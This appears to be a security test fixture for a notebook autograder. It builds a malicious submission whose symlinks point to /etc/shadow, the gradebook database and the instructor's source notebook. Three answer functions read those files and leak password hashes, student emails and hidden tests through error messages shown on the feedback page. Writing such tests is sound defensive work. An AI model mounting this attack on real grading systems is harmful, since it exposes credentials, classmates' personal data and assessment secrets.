"""Hand in symbolic links to the gradebook, the source notebook and /etc/shadow, then read them.

The submission folder holds, beside the notebook, ``notes.txt -> /etc/shadow``,
``data.db -> ../../../gradebook.db`` and ``answers.json -> ../../../source/.../...ipynb``.
A grader that copies the folder with a symlink-following copy (shutil.copytree's
default) puts the targets' contents in the student's folder, where the kernel reads
them even when it sees nothing else. zero_pad, conv_single_step and conv_forward raise
with what they read (into the feedback page); the other five are honest.
Without protection: the hidden tests, the classmates' e-mails and /etc/shadow in the
student's feedback.
"""
EXPECT = {"pool_forward", "conv_backward", "create_mask_from_window", "distribute_value", "pool_backward"}
SYMLINKS = {"notes.txt": "/etc/shadow", "data.db": "../../../gradebook.db",
            "answers.json": "../../../source/cnn_step_by_step/cnn_step_by_step.ipynb"}


def _leaks(name, args, expression):
    return f'''def {name}({args}):
    try:
        text = str({expression})
    except Exception as error:
        text = repr(error)
    raise AssertionError(" | ".join(line.strip() for line in text.split("\\n") if line.strip())[:290])
'''


ANSWERS = {
    "zero_pad": _leaks("zero_pad", "X, pad", 'open("notes.txt").read()'),
    "conv_single_step": _leaks("conv_single_step", "a_slice_prev, W, b",
                               '__import__("sqlite3").connect("data.db").execute("SELECT id, email FROM student").fetchall()'),
    "conv_forward": _leaks("conv_forward", "A_prev, W, b, hparameters",
                           'open("answers.json").read().split("### BEGIN HIDDEN TESTS", 2)[-1].replace("\\\\n", "\\n")'),
}
